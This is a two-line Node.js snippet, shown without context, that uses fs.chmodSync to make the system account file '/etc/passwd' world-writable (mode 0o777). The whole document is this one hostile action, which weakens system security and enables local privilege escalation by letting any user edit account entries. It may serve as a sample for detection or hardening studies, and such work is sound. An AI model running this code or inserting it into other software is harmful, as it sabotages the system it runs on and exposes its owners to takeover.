const fs = require('fs');
fs.chmodSync('/etc/passwd', 0o777);
